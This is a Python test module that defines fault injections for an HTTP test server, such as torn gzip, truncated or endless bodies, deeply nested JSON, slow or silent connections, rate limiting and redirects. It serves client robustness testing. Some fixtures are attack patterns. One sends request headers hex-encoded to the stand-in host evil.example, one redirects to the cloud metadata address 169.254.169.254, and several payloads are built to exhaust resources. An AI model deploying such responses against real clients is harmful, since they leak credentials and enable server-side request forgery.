"""Faults of a line or of a server, whatever the feed: what is sent in place of a good answer, or not sent."""

from __future__ import annotations

import contextlib
import gzip
import socket
import time
import zlib
from typing import TYPE_CHECKING

from feeds.asked import Reply

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from feeds.server import Handler

LONGEST_S = 8.0
"""No fault holds a thread of the server longer: a client that waits so long has failed its test already."""
SPACES = b" " * 65_536
PROMISED_BYTES = 2_000_000_000
HTML = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body>Please sign in.</body></html>"


def _instead(body: bytes, status: int = 200, **headers: str) -> Callable[[Handler, Reply], None]:
    named = {name.replace("_", "-"): value for name, value in headers.items()}

    def fault(handler: Handler, _: Reply) -> None:
        handler.send(Reply(body, status, named))

    return fault


def _whole(reply: Reply) -> bytes:
    return reply.body if isinstance(reply.body, bytes) else b"".join(reply.body())


def _torn_gzip(handler: Handler, reply: Reply) -> None:
    packed = gzip.compress(_whole(reply))
    handler.send(Reply(packed[: len(packed) // 2], 200, {**reply.headers, "Content-Encoding": "gzip"}))


def _cut_short(handler: Handler, reply: Reply) -> None:
    body = _whole(reply)
    handler.send(Reply(body[: len(body) // 2], 200, reply.headers), length=len(body))
    handler.close_connection = True


def _huge(handler: Handler, _: Reply) -> None:
    """Spaces without end, or for as long as anybody listens."""
    handler.send(Reply(lambda: _spaces(LONGEST_S), 200, {"Content-Type": "application/json"}))


def _promise(handler: Handler, _: Reply) -> None:
    """Two gigabytes, as the header says."""
    sent = Reply(lambda: _spaces(60.0, PROMISED_BYTES), 200, {"Content-Type": "application/json"})
    handler.send(sent, length=PROMISED_BYTES)


def _spaces(seconds: float, count: int = 1 << 60) -> Iterator[bytes]:
    end, sent = time.monotonic() + seconds, 0
    while sent < count and time.monotonic() < end:
        yield SPACES
        sent += len(SPACES)


def _slow(handler: Handler, reply: Reply) -> None:
    """A byte now and then."""

    def drip() -> Iterator[bytes]:
        end = time.monotonic() + LONGEST_S
        for at in range(10_000):
            yield _whole(reply)[at : at + 1] or b" "
            time.sleep(0.05)
            if time.monotonic() > end:
                return

    handler.send(Reply(drip, 200, reply.headers))


def _silent(handler: Handler, _: Reply) -> None:
    handler.connection.settimeout(LONGEST_S)
    with contextlib.suppress(OSError):
        # Returns when the client hangs up.
        handler.connection.recv(1)
    handler.close_connection = True


def _closed(handler: Handler, _: Reply) -> None:
    handler.connection.shutdown(socket.SHUT_RDWR)
    handler.close_connection = True


def _thrice(handler: Handler, reply: Reply) -> None:
    if handler.nth_request() <= 3:
        handler.send(Reply(b"slow down", 429, {"Retry-After": "0"}))
    else:
        handler.send(reply)


def _parts(handler: Handler, reply: Reply) -> None:
    """One of three lists, the same ones each time, cannot be had."""
    if zlib.crc32(f"{handler.asked} {handler.body!r}".encode()) % 3 == 0:
        handler.send(Reply(b"oops", 500))
    else:
        handler.send(reply)


def _redirect_here(handler: Handler, _: Reply) -> None:
    handler.send(Reply(b"", 302, {"Location": f"{handler.server.address}/~trap"}))


def _echo(handler: Handler, _: Reply) -> None:
    """What a careless proxy does: the request's own headers on the error page."""
    said = "".join(f"{name}: {value}\n" for name, value in handler.headers.items())
    handler.send(Reply(said.encode(), 401, {"Location": f"https://evil.example/?{said.encode().hex()}"}))


FAULTS: dict[str, Callable[[Handler, Reply], None]] = {
    "html": _instead(HTML, Content_Type="text/html; charset=utf-8"),
    "empty body": _instead(b"", Content_Type="application/json"),
    "deep": _instead(b"[" * 1_000_000, Content_Type="application/json"),
    "deep objects": _instead(b'{"data":' * 200_000 + b"1" + b"}" * 200_000, Content_Type="application/json"),
    "torn gzip": _torn_gzip,
    "cut short": _cut_short,
    "huge": _huge,
    "2 GB promise": _promise,
    "slow": _slow,
    "silent": _silent,
    "closed": _closed,
    "429 thrice": _thrice,
    "429": _instead(b"slow down", 429, Retry_After="0"),
    "429 for an hour": _instead(b"slow down", 429, Retry_After="3600"),
    "500": _instead(b"oops", 500),
    "some parts 500": _parts,
    "401 echo": _echo,
    "redirect away": _instead(b"", 302, Location="https://evil.example/prices.json"),
    "redirect inside": _redirect_here,
    "redirect to metadata": _instead(b"", 307, Location="http://169.254.169.254/latest/meta-data/"),
}
